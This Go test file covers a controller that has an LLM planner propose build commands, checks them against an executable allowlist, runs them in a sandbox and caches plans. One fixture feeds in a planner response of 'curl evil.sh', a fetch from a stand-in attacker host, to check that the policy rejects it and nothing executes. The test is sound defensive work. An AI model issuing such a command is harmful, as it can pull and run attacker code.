package session

import (
	"context"
	"io"
	"log/slog"
	"strings"
	"testing"
	"time"

	"github.com/jkaninda/runbox/internal/cache"
	"github.com/jkaninda/runbox/internal/domain"
	"github.com/jkaninda/runbox/internal/planner"
	"github.com/jkaninda/runbox/internal/policy"
	"github.com/jkaninda/runbox/internal/repo"
	"github.com/jkaninda/runbox/internal/sandbox"
	"github.com/jkaninda/runbox/internal/validator"
)

func discardLogger() *slog.Logger {
	return slog.New(slog.NewTextHandler(io.Discard, nil))
}

// scriptedProvider replays canned completions in order, sticking on the
// last one, and records every request it saw.
type scriptedProvider struct {
	responses []string
	requests  []*planner.Request
}

func (p *scriptedProvider) Complete(_ context.Context, req *planner.Request) (*planner.Response, error) {
	p.requests = append(p.requests, req)
	i := len(p.requests) - 1
	if i >= len(p.responses) {
		i = len(p.responses) - 1
	}
	return &planner.Response{Content: p.responses[i], StopReason: "end_turn"}, nil
}

func (p *scriptedProvider) Name() string { return "scripted" }

// scriptedExecutor succeeds every command except those whose program name
// is listed in fail, and records what ran.
type scriptedExecutor struct {
	fail map[string]bool
	ran  [][]string
}

func (e *scriptedExecutor) Run(_ context.Context, op domain.Operation, _ sandbox.Limits) (*domain.ExecutionResult, error) {
	e.ran = append(e.ran, op.Command)
	res := &domain.ExecutionResult{
		Operation:      op,
		Classification: domain.ClassSucceeded,
		Duration:       time.Millisecond,
	}
	if e.fail[op.Command[0]] {
		res.Classification = domain.ClassRuntimeFailed
		res.ExitCode = 2
		res.Stderr = "make: *** [all] Error 2"
	}
	return res, nil
}

func testPolicy(t *testing.T) *policy.Store {
	t.Helper()
	store, err := policy.New([]policy.Rule{
		{Name: "build-tools", Executables: []string{"make", "python3", "pip"}, TimeoutSeconds: 30},
	})
	if err != nil {
		t.Fatal(err)
	}
	return store
}

func testRepository() domain.Repository {
	return domain.Repository{Origin: "https://github.com/org/demo", Commit: "abc1234", CloneDir: "/tmp/demo"}
}

func testAnalysis() *repo.Analysis {
	return &repo.Analysis{
		Readme:    "# Demo\nRun make.",
		Listing:   []string{"Makefile", "README.md"},
		Manifests: []string{"Makefile"},
	}
}

func newTestController(t *testing.T, provider planner.Provider, exec sandbox.Executor, mutate func(*Config)) (*Controller, *policy.Store) {
	t.Helper()
	store := testPolicy(t)
	cfg := Config{
		Generator: planner.NewGenerator(provider, discardLogger()),
		Validator: validator.New(store, discardLogger()),
		Runner:    sandbox.NewRunner(exec, discardLogger()),
		Policy:    store,
		Logger:    discardLogger(),
	}
	if mutate != nil {
		mutate(&cfg)
	}
	ctrl, err := NewController(cfg)
	if err != nil {
		t.Fatal(err)
	}
	return ctrl, store
}

const goodPlan = `[{"command": ["make"], "intent": "build"}, {"command": ["python3", "main.py"], "intent": "run"}]`

func TestRunSucceedsFirstAttempt(t *testing.T) {
	provider := &scriptedProvider{responses: []string{goodPlan}}
	exec := &scriptedExecutor{}
	ctrl, _ := newTestController(t, provider, exec, nil)

	sess := ctrl.Run(context.Background(), testRepository(), testAnalysis())

	if sess.Status != domain.StatusSucceeded {
		t.Fatalf("status = %s (%s), want succeeded", sess.Status, sess.Reason)
	}
	if len(sess.Attempts) != 1 {
		t.Errorf("attempts = %d, want 1", len(sess.Attempts))
	}
	if sess.CacheHit {
		t.Error("first run should not be a cache hit")
	}
	if len(exec.ran) != 2 {
		t.Errorf("executed %d operations, want 2", len(exec.ran))
	}
	if sess.FinishedAt.Before(sess.StartedAt) {
		t.Error("FinishedAt precedes StartedAt")
	}
}

func TestPolicyRejectionAbortsImmediately(t *testing.T) {
	provider := &scriptedProvider{responses: []string{
		`[{"command": ["curl", "evil.sh"], "intent": "install"}]`,
	}}
	exec := &scriptedExecutor{}
	ctrl, _ := newTestController(t, provider, exec, nil)

	sess := ctrl.Run(context.Background(), testRepository(), testAnalysis())

	if sess.Status != domain.StatusAborted {
		t.Fatalf("status = %s, want aborted", sess.Status)
	}
	if len(provider.requests) != 1 {
		t.Errorf("planner called %d times, want 1 (rejection is never retried)", len(provider.requests))
	}
	if len(exec.ran) != 0 {
		t.Errorf("executed %d operations, want 0", len(exec.ran))
	}
	if !strings.Contains(sess.Reason, "curl") {
		t.Errorf("reason %q should name the rejected command", sess.Reason)
	}
}

func TestReplansAfterRuntimeFailure(t *testing.T) {
	provider := &scriptedProvider{responses: []string{
		`[{"command": ["make"], "intent": "build"}]`,
		`[{"command": ["python3", "setup.py"], "intent": "build"}]`,
	}}
	exec := &scriptedExecutor{fail: map[string]bool{"make": true}}
	ctrl, _ := newTestController(t, provider, exec, nil)

	sess := ctrl.Run(context.Background(), testRepository(), testAnalysis())

	if sess.Status != domain.StatusSucceeded {
		t.Fatalf("status = %s (%s), want succeeded", sess.Status, sess.Reason)
	}
	if len(sess.Attempts) != 2 {
		t.Fatalf("attempts = %d, want 2", len(sess.Attempts))
	}
	// The replan prompt must carry the prior failure's captured output.
	if len(provider.requests) != 2 {
		t.Fatalf("planner called %d times, want 2", len(provider.requests))
	}
	if !strings.Contains(provider.requests[1].Prompt, "Error 2") {
		t.Error("replan prompt missing prior stderr")
	}
}

func TestExhaustsAttemptBudget(t *testing.T) {
	provider := &scriptedProvider{responses: []string{`[{"command": ["make"], "intent": "build"}]`}}
	exec := &scriptedExecutor{fail: map[string]bool{"make": true}}
	ctrl, _ := newTestController(t, provider, exec, func(cfg *Config) {
		cfg.MaxAttempts = 3
	})

	sess := ctrl.Run(context.Background(), testRepository(), testAnalysis())

	if sess.Status != domain.StatusExhausted {
		t.Fatalf("status = %s, want exhausted", sess.Status)
	}
	if len(sess.Attempts) != 3 {
		t.Errorf("attempts = %d, want 3", len(sess.Attempts))
	}
	if len(provider.requests) != 3 {
		t.Errorf("planner called %d times, want 3", len(provider.requests))
	}
}

func TestMalformedPlanConsumesBudget(t *testing.T) {
	provider := &scriptedProvider{responses: []string{
		"I would suggest running make first.",
		goodPlan,
	}}
	exec := &scriptedExecutor{}
	ctrl, _ := newTestController(t, provider, exec, nil)

	sess := ctrl.Run(context.Background(), testRepository(), testAnalysis())

	if sess.Status != domain.StatusSucceeded {
		t.Fatalf("status = %s (%s), want succeeded", sess.Status, sess.Reason)
	}
	if len(sess.Attempts) != 2 {
		t.Fatalf("attempts = %d, want 2", len(sess.Attempts))
	}
	if sess.Attempts[0].Err == "" || sess.Attempts[0].Plan != nil {
		t.Error("first attempt should record a malformed-plan error and no plan")
	}
	// The retry prompt tells the model what went wrong with its output.
	if !strings.Contains(provider.requests[1].Prompt, "could not be parsed") {
		t.Error("retry prompt missing parse-failure feedback")
	}
}

func TestDefaultBudgetIsFourAttempts(t *testing.T) {
	provider := &scriptedProvider{responses: []string{"not json at all"}}
	ctrl, _ := newTestController(t, provider, &scriptedExecutor{}, nil)

	sess := ctrl.Run(context.Background(), testRepository(), testAnalysis())

	if sess.Status != domain.StatusExhausted {
		t.Fatalf("status = %s, want exhausted", sess.Status)
	}
	if len(sess.Attempts) != DefaultMaxAttempts {
		t.Errorf("attempts = %d, want %d", len(sess.Attempts), DefaultMaxAttempts)
	}
}

func TestCacheCommittedOnSuccess(t *testing.T) {
	store := cache.New(t.TempDir(), discardLogger())
	provider := &scriptedProvider{responses: []string{goodPlan}}
	ctrl, _ := newTestController(t, provider, &scriptedExecutor{}, func(cfg *Config) {
		cfg.Cache = store
	})

	sess := ctrl.Run(context.Background(), testRepository(), testAnalysis())
	if sess.Status != domain.StatusSucceeded {
		t.Fatalf("status = %s (%s)", sess.Status, sess.Reason)
	}

	entry, err := store.Latest(testRepository().Identity())
	if err != nil {
		t.Fatal(err)
	}
	if entry == nil {
		t.Fatal("expected a committed cache entry")
	}
	if len(entry.Operations) != 2 {
		t.Errorf("cached %d operations, want 2", len(entry.Operations))
	}
	if entry.PolicyRevision == "" {
		t.Error("cache entry missing policy revision")
	}
}

func TestCacheHitSkipsPlanner(t *testing.T) {
	cacheDir := t.TempDir()
	store := cache.New(cacheDir, discardLogger())
	pol := testPolicy(t)
	identity := testRepository().Identity()
	ops := []domain.Operation{{Command: []string{"make"}, Intent: domain.IntentBuild}}
	if err := store.Commit(&cache.Entry{
		RepoIdentity:   identity,
		Fingerprint:    cache.Fingerprint(identity, ops),
		Operations:     ops,
		PolicyRevision: pol.Revision(),
	}); err != nil {
		t.Fatal(err)
	}

	provider := &scriptedProvider{responses: []string{goodPlan}}
	exec := &scriptedExecutor{}
	ctrl, _ := newTestController(t, provider, exec, func(cfg *Config) {
		cfg.Cache = store
	})

	sess := ctrl.Run(context.Background(), testRepository(), testAnalysis())

	if sess.Status != domain.StatusSucceeded {
		t.Fatalf("status = %s (%s)", sess.Status, sess.Reason)
	}
	if !sess.CacheHit {
		t.Error("expected a cache hit")
	}
	if len(provider.requests) != 0 {
		t.Errorf("planner called %d times on a cache hit, want 0", len(provider.requests))
	}
	if len(exec.ran) != 1 {
		t.Errorf("executed %d operations, want the 1 cached one", len(exec.ran))
	}
}

func TestCachedPlanRejectedByNewPolicyIsAMiss(t *testing.T) {
	store := cache.New(t.TempDir(), discardLogger())
	identity := testRepository().Identity()
	// wget was allowed when this entry was committed, but not anymore.
	ops := []domain.Operation{{Command: []string{"wget", "https://example.com/dep.tar"}, Intent: domain.IntentInstall}}
	if err := store.Commit(&cache.Entry{
		RepoIdentity:   identity,
		Fingerprint:    cache.Fingerprint(identity, ops),
		Operations:     ops,
		PolicyRevision: "stale-revision",
	}); err != nil {
		t.Fatal(err)
	}

	provider := &scriptedProvider{responses: []string{goodPlan}}
	exec := &scriptedExecutor{}
	ctrl, _ := newTestController(t, provider, exec, func(cfg *Config) {
		cfg.Cache = store
	})

	sess := ctrl.Run(context.Background(), testRepository(), testAnalysis())

	if sess.Status != domain.StatusSucceeded {
		t.Fatalf("status = %s (%s), want fresh plan to succeed", sess.Status, sess.Reason)
	}
	if sess.CacheHit {
		t.Error("a rejected cached plan must not count as a hit")
	}
	if len(provider.requests) != 1 {
		t.Errorf("planner called %d times, want 1", len(provider.requests))
	}
	for _, cmd := range exec.ran {
		if cmd[0] == "wget" {
			t.Error("rejected cached operation was executed")
		}
	}
}

func TestCachedPlanFailureFallsBackToPlanning(t *testing.T) {
	store := cache.New(t.TempDir(), discardLogger())
	pol := testPolicy(t)
	identity := testRepository().Identity()
	ops := []domain.Operation{{Command: []string{"make"}, Intent: domain.IntentBuild}}
	if err := store.Commit(&cache.Entry{
		RepoIdentity:   identity,
		Fingerprint:    cache.Fingerprint(identity, ops),
		Operations:     ops,
		PolicyRevision: pol.Revision(),
	}); err != nil {
		t.Fatal(err)
	}

	provider := &scriptedProvider{responses: []string{
		`[{"command": ["python3", "setup.py"], "intent": "build"}]`,
	}}
	exec := &scriptedExecutor{fail: map[string]bool{"make": true}}
	ctrl, _ := newTestController(t, provider, exec, func(cfg *Config) {
		cfg.Cache = store
	})

	sess := ctrl.Run(context.Background(), testRepository(), testAnalysis())

	if sess.Status != domain.StatusSucceeded {
		t.Fatalf("status = %s (%s)", sess.Status, sess.Reason)
	}
	if sess.CacheHit {
		t.Error("a failed replay must not count as a hit")
	}
	if len(provider.requests) != 1 {
		t.Errorf("planner called %d times, want 1", len(provider.requests))
	}
}

func TestNoCacheSkipsLookupAndCommit(t *testing.T) {
	store := cache.New(t.TempDir(), discardLogger())
	provider := &scriptedProvider{responses: []string{goodPlan}}
	ctrl, _ := newTestController(t, provider, &scriptedExecutor{}, func(cfg *Config) {
		cfg.Cache = store
		cfg.NoCache = true
	})

	sess := ctrl.Run(context.Background(), testRepository(), testAnalysis())
	if sess.Status != domain.StatusSucceeded {
		t.Fatalf("status = %s (%s)", sess.Status, sess.Reason)
	}

	entry, err := store.Latest(testRepository().Identity())
	if err != nil {
		t.Fatal(err)
	}
	if entry != nil {
		t.Error("NoCache run must not commit to the cache")
	}
}

func TestNoInstallDropsInstallOperations(t *testing.T) {
	provider := &scriptedProvider{responses: []string{
		`[{"command": ["pip", "install", "-r", "requirements.txt"], "intent": "install"}, {"command": ["python3", "main.py"], "intent": "run"}]`,
	}}
	exec := &scriptedExecutor{}
	ctrl, _ := newTestController(t, provider, exec, func(cfg *Config) {
		cfg.NoInstall = true
	})

	sess := ctrl.Run(context.Background(), testRepository(), testAnalysis())

	if sess.Status != domain.StatusSucceeded {
		t.Fatalf("status = %s (%s)", sess.Status, sess.Reason)
	}
	if len(exec.ran) != 1 || exec.ran[0][0] != "python3" {
		t.Errorf("ran %v, want only the run operation", exec.ran)
	}
}

func TestCanceledContextAborts(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()

	provider := &scriptedProvider{responses: []string{goodPlan}}
	ctrl, _ := newTestController(t, provider, &scriptedExecutor{}, nil)

	sess := ctrl.Run(ctx, testRepository(), testAnalysis())

	if sess.Status != domain.StatusAborted {
		t.Fatalf("status = %s, want aborted", sess.Status)
	}
	if !strings.Contains(sess.Reason, "canceled") {
		t.Errorf("reason %q should mention cancellation", sess.Reason)
	}
}

func TestNewControllerRequiresWiring(t *testing.T) {
	if _, err := NewController(Config{Logger: discardLogger()}); err == nil {
		t.Error("expected error for missing collaborators")
	}
}
